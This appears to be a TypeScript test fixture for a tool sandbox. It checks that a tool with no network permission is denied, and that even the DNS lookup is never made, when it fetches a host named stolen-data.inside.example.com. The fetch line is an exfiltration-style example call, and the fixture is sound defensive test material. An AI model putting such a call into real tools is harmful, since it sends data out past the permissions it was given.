/**
 * A tool without any permission asks for a host. The name must not even be looked up: a question to a name server carries
 * out data as well as any request.
 *
 * status: error
 * error_code: PermissionDenied
 * message: permissions.net
 * never_asked: stolen-data.inside.example.com
 */
export async function execute(): Promise<number> {
  return (await fetch("http://stolen-data.inside.example.com/")).status;
}
